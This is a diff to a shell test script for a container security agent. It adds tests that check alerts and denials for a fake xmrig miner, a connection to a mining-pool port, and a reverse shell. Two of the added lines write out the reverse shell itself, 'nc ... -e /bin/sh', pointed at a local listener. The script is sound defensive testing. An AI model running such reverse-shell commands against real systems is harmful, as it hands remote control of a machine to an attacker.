@@ -65,6 +65,8 @@ test_network() {
 	# Raw and packet sockets are watched only where the process may hold
 	# CAP_NET_RAW; without it the kernel refuses them by itself.
 	sed -i 's|"CAP_KILL"|"CAP_NET_RAW", "CAP_KILL"|g' "$bundle/config.json"
+	# A link named like a known miner (busybox has no such applet).
+	ln -sf busybox "$bundle/rootfs/bin/xmrig"
 	expect_ok_detached "run a container in the test's namespace" rt run -d --bundle "$bundle" "$id"
 
 	# Learning.
@@ -87,6 +89,26 @@ test_network() {
 		rt exec --user 1000:1000 "$id" nethelper uconnect /tmp/u.sock
 	expect_ok "open the socket file to all" rt exec "$id" chmod 777 /tmp/u.sock
 	expect_ok "learn the netlink swap program" rt exec "$id" nethelper swap 7002 1
+	# Crypto miners, by name and by the ports of mining pools: threats,
+	# alerted even while learning.
+	rt exec "$id" xmrig >/dev/null 2>&1
+	expect_contains "a known miner is alerted while learning" \
+		'"reason":"crypto miner: `xmrig` is the name of a known miner","action":"alerted"' "$(cat "$WORK/alerts.json")"
+	rt exec "$id" nethelper connect 127.0.0.1 3333 >/dev/null 2>&1
+	expect_contains "a mining pool port is alerted while learning" \
+		'"reason":"crypto miner: destination tcp 127.0.0.1:3333 is on a port of mining pools","action":"alerted"' \
+		"$(cat "$WORK/alerts.json")"
+	# A reverse shell: nc hands its connection to a shell as its standard
+	# input and output.  A threat, alerted even while learning.
+	in_netns "$BUSYBOX" nc -l -p 7100 </dev/null >/dev/null 2>&1 &
+	listener=$!
+	sleep 0.3
+	rt exec "$id" nc 127.0.0.1 7100 -e /bin/sh >/dev/null 2>&1
+	kill "$listener" 2>/dev/null
+	wait "$listener" 2>/dev/null
+	expect_contains "a reverse shell is alerted while learning" \
+		'"reason":"reverse shell: standard input and output are a network connection (127.0.0.1:7100)","action":"alerted"' \
+		"$(grep 'reverse shell' "$WORK/alerts.json")"
 	# The agent binds for the process, so it applies the namespace's
 	# unprivileged port limit to the process's capabilities, as the kernel.
 	in_netns sh -c 'echo 2000 >/proc/sys/net/ipv4/ip_unprivileged_port_start'
@@ -109,6 +131,15 @@ test_network() {
 connected" "$LAST_OUTPUT"
 	expect_ok "learned listen works" rt exec "$id" nethelper listen 8080
 	expect_ok "learned datagram is sent" rt exec "$id" nethelper udp 127.0.0.1 5353
+	in_netns "$BUSYBOX" nc -l -p 7100 </dev/null >/dev/null 2>&1 &
+	listener=$!
+	sleep 0.3
+	rt exec "$id" nc 127.0.0.1 7100 -e /bin/sh >/dev/null 2>&1
+	kill "$listener" 2>/dev/null
+	wait "$listener" 2>/dev/null
+	expect_contains "a reverse shell is denied once the model is active" \
+		'"reason":"reverse shell: standard input and output are a network connection (127.0.0.1:7100)","action":"denied"' \
+		"$(grep 'reverse shell' "$WORK/alerts.json")"
 	expect_ok "learned unix connect works as another uid" rt exec --user 1000:1000 "$id" nethelper uconnect /tmp/u.sock
 	expect_contains "the unix server sees that uid, not vigild's" "peer uid 1000" "$LAST_OUTPUT"
 
@@ -157,7 +188,7 @@ connected" "$LAST_OUTPUT"
 	# namespace read from the kernel, with their owners.
 	ctl() { "$VIGIL_BUILDDIR/vigilctl" --config "$conf" "$@"; }
 	expect_ok "vigilctl shows the model" ctl models show "$key"
-	expect_contains "models show has a network section" "Network: 3 listening, 4 destinations" "$LAST_OUTPUT"
+	expect_contains "models show has a network section" "Network: 3 listening, 5 destinations" "$LAST_OUTPUT"
 	expect_contains "models show lists the destination" "127.0.0.1:7001" "$LAST_OUTPUT"
 	rt exec "$id" nethelper listen 8080 5 >/dev/null 2>&1 &
 	holder=$!
